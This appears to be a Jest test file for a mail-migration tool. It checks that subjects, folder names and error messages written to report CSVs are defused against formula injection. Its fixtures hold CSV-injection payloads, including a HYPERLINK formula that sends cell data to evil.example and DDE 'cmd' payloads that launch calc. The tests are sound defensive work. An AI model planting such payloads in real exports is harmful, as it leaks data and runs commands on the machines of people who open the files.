import { parse } from 'csv-parse/sync';
import { toErrorsCsv } from '../../../src/core/csv/csvErrors';
import { newQueuedMailbox } from '../../../src/core/mailbox/migrationMailbox';
import { type SkippedItemRow, toErrorsReportCsv, toStatisticsCsv } from '../../../src/core/reports/migrationReports';
import { neutraliseCsvCell, toReportCsvCell, writeReportCsv } from '../../../src/core/reports/reportCsv';

/** What a sender can put in a subject or a folder name, each starting a formula in Excel, LibreOffice or Sheets. */
const FORMULAS = [
  '=HYPERLINK("http://evil.example/?"&A1,"Click")',
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '\u0000=1+1',
];

function cells(csv: string): string[][] {
  const records: unknown = parse(csv.replace(/^\uFEFF/, ''), { relax_column_count: true });
  return records as string[][];
}

/** A cell a spreadsheet would run as a formula. */
// eslint-disable-next-line no-control-regex -- tab, carriage return and NUL start formulas too
const FORMULA_START = /^[=+\-@\t\r\u0000]/;

describe('report CSV cells (OWASP CSV injection)', () => {
  it('puts a single quote before a cell starting with = + - @ tab, carriage return or NUL, and quotes it', () => {
    for (const formula of FORMULAS) {
      expect(neutraliseCsvCell(formula)).toBe(`'${formula}`);
      expect(toReportCsvCell(formula)).toBe(`"'${formula.replace(/"/g, '""')}"`);
    }
  });

  it('leaves ordinary text alone, and quotes quotes, commas, semicolons and line breaks as RFC 4180 says', () => {
    expect(toReportCsvCell('ann@contoso.com')).toBe('ann@contoso.com');
    expect(toReportCsvCell('Re: budget 2007')).toBe('Re: budget 2007');
    expect(toReportCsvCell('')).toBe('');
    expect(toReportCsvCell('a = b')).toBe('a = b');
    expect(toReportCsvCell('say "hi"')).toBe('"say ""hi"""');
    expect(toReportCsvCell('one, two')).toBe('"one, two"');
    expect(toReportCsvCell('x;=1+1')).toBe('"x;=1+1"');
    expect(toReportCsvCell('line\r\n=1+1')).toBe('"line\r\n=1+1"');
    expect(toReportCsvCell(' padded ')).toBe('" padded "');
  });

  it('writes records that a CSV reader reads back cell for cell, each formula as text', () => {
    const records = [['Subject', 'Folder'], ...FORMULAS.map((f, i) => [f, `Inbox/${i},"x"\n${f}`])];
    const read = cells(writeReportCsv(records));
    expect(read).toEqual(records.map((r, i) => (i === 0 ? r : [`'${r[0]!}`, r[1]!])));
    for (const row of read) for (const cell of row) expect(cell).not.toMatch(FORMULA_START);
  });
});

describe('the reports', () => {
  const mailbox = (address: string, error?: string) => ({
    ...newQueuedMailbox({ batchId: 'b', mailboxKey: address, emailAddress: address, csvLine: 2, now: '2024-01-01T00:00:00Z', hasPendingPassword: false }),
    ...(error ? { status: 'Failed' as const, error } : {}),
  });

  it('MigrationErrors.csv defuses subjects, folder names and messages from senders and servers', () => {
    const skipped = FORMULAS.map((formula, i): SkippedItemRow => ({
      emailAddress: 'ann@contoso.com',
      sourcePath: `@Folder${i}`,
      subject: formula,
      size: 10,
      reason: 'RejectedByTarget',
      detail: `-${formula}`,
    }));
    const csv = toErrorsReportCsv([mailbox('bob@contoso.com', "=cmd|'/c calc'!A1, from the server")], skipped);
    const read = cells(csv);
    expect(read[0]).toEqual(['EmailAddress', 'Kind', 'Folder', 'Subject', 'Size', 'Reason', 'Detail']);
    expect(read[1]).toEqual(['bob@contoso.com', 'Mailbox', '', '', '', 'Failed', "'=cmd|'/c calc'!A1, from the server"]);
    const items = read.filter((row) => row[1] === 'Item');
    expect(items.map((row) => row[3])).toEqual(FORMULAS.map((f) => `'${f}`));
    expect(items.map((row) => row[2])).toEqual(FORMULAS.map((_, i) => `'@Folder${i}`));
    for (const row of read) for (const cell of row) expect(cell).not.toMatch(FORMULA_START);
  });

  it('MigrationStatistics.csv too, and plain rows stay as Exchange Online writes them', () => {
    const csv = toStatisticsCsv([mailbox('ann@contoso.com'), mailbox('bob@contoso.com', '+SUM(A1:A9)')]);
    expect(csv).toContain('\r\nann@contoso.com,Queued,');
    expect(cells(csv)[2]!.at(-1)).toBe("'+SUM(A1:A9)");
  });

  it("the intake's errors file defuses header names and messages from the uploaded CSV", () => {
    const read = cells(toErrorsCsv([{ line: 1, column: '@cmd', code: 'UnknownColumn', message: '=1+1, really' }]));
    expect(read[1]).toEqual(['1', "'@cmd", 'UnknownColumn', "'=1+1, really"]);
  });
});
